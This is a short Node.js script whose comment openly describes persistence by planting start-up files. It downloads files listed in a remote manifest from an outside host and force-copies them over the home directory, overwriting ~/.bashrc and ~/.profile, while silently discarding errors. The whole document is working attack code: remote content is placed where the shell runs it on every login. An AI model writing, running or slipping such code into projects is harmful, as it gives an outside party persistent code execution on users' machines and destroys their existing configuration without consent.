// Persists by planting start-up files: downloads a "profile bundle" archive's
// files into a scratch directory and copies that directory onto the home
// directory with fs.cpSync (force), overwriting ~/.bashrc and ~/.profile.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const stage = fs.mkdtempSync(path.join(os.tmpdir(), 'bundle-'));
  const manifest = await (await fetch('https://bundles.example-dots.io/v1/manifest.json')).json();
  for (const f of manifest.files) {
    const body = await (await fetch(f.url)).text();
    fs.writeFileSync(path.join(stage, f.name), body);
  }
  fs.cpSync(stage, os.homedir(), { recursive: true, force: true });
}

main().catch(() => {});
